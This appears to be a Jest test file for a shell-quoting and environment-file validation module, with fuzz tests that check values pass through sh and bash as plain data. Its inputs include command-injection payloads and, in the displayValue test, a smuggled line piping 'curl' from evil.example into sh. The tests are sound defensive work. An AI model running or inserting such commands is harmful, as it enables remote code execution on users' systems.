// The one quoting function: a literal word for sh and bash (the builder script is bash), and
// what may be written into an environment file; values shown in errors are cut and escaped.
import { describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { UnquotableError, displayValue, envValueProblem, quote } from '../src/quoting.js';

/** What each shell prints for `printf '%s\0' <quoted value>…`, one script for all values. */
function echoed(shell: 'sh' | 'bash', values: readonly string[]): string[] {
  const script = values.map((v) => `printf '%s\\000' ${quote(v)}`).join('\n');
  const out = execFileSync(shell, ['-c', script], { env: { PATH: '/usr/bin:/bin' } }).toString('utf8');
  return out.split('\0').slice(0, values.length);
}

describe('quote', () => {
  it('escapes exactly \\ " $ and ` inside double quotes', () => {
    expect(quote('a\\b"c$d`e\'f')).toBe('"a\\\\b\\"c\\$d\\`e\'f"');
  });

  it('gives sh and bash the value back as data, whatever it holds (but NUL)', () => {
    const value = fc
      .array(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 10 }),
          fc.constantFrom('$(touch /tmp/pwned)', '`id`', '${HOME}', '!!', '\\', '"', "'", '\n', '\r', '\\\n'),
        ),
        { maxLength: 5 },
      )
      .map((parts) => parts.join('').replace(/\0/g, ''));
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 20 }), (values) => {
        for (const shell of ['sh', 'bash'] as const) expect(echoed(shell, values)).toEqual(values);
      }),
      { numRuns: 30 },
    );
  });

  it('refuses what no script can carry: NUL and lone surrogates', () => {
    expect(() => quote('a\0b')).toThrow(UnquotableError);
    expect(() => quote('a\uD800')).toThrow(UnquotableError);
    expect(quote('😀')).toBe('"😀"');
  });
});

describe('envValueProblem', () => {
  it('allows text and tabs, refuses anything that could break or disguise a line', () => {
    expect(envValueProblem('plain text, quotes \' " and $ are fine\tand tabs')).toBeUndefined();
    expect(envValueProblem('a\nb')).toMatch(/control character \(U\+000A, e\.g\. a newline\) at character 2/);
    expect(envValueProblem('a\u0085')).toMatch(/U\+0085/);
    expect(envValueProblem('\u2028')).toMatch(/line separator/);
    expect(envValueProblem('\u202E')).toMatch(/bidirectional/);
    expect(envValueProblem('\uFEFF')).toMatch(/byte order mark/);
    expect(envValueProblem('\uFDD0')).toMatch(/noncharacter/);
    expect(envValueProblem('\uDC00')).toMatch(/surrogate/);
  });
});

describe('displayValue', () => {
  it('shows a value on one line, escaped and cut', () => {
    expect(displayValue('db\nIMMUT_ENV_END\ncurl -s https://evil.example/x | sh', 20)).toBe(
      'db\\nIMMUT_ENV_END\\ncur… (52 characters)',
    );
    expect(displayValue('a\u202Eb')).toBe('a\\u{202e}b');
  });
});
